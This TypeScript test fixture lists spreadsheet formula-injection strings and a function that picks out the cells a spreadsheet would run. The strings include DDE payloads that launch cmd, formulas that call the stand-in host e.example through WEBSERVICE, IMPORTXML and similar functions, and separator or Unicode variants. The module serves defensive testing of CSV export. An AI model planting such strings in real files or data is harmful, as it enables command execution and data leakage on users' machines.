/** For tests: texts that a spreadsheet runs as a formula, or hides one behind a separator of columns or rows. */
export const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("//e.example";"x")',
  '=WEBSERVICE("//e.example")',
  '=IMPORTXML("//e.example","//a")',
  '=IMPORTDATA("//e.example")',
  '=IMAGE("//e.example")',
  '=DDE("cmd";"/c calc";"a")',
  '=1+1";=1+1',
  '= 1+1',
  ' =1+1',
  '\u00a0=1+1',
  '+1+1',
  '+SUM(1;1)',
  '-1+1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1;1)',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1;1)',
  'Ana;=1+1',
  'Ana;;=1+1',
  'Ana; =1+1',
  'Ana";=1+1',
  'Ana;"=1+1',
  '"=1+1',
  '";=1+1;"',
] as const
/** The same with characters that no text of people may contain. */
export const hiddenFormulas = ['\t=1+1', '\r=1+1', '\n=1+1', 'Ana\t=1+1', 'Ana\r\n=1+1', 'Ana\n@SUM(1;1)'] as const

/** Returns the cells of a file that a spreadsheet would run, whichever separator it takes for that of columns. */
export function runCells(file: string): string[] {
  return [',', ';', '\t']
    .flatMap((separator) => cellsOf(file, separator))
    .filter((cell) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))
}

/** Reads cells as spreadsheets do: a cell is quoted only if its first character is a quote. Numbers are no formulas. */
function cellsOf(file: string, separator: string): string[] {
  const cells = [...file.matchAll(new RegExp(`(?:^|[${separator}\\r\\n])(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))`, 'gu'))]
  return cells
    .map(([, quoted, plain = '']) => (quoted === undefined ? plain : quoted.replaceAll('""', '"')))
    .filter((cell) => !/^[+-]?\d+(\.\d+)?$/.test(cell))
}
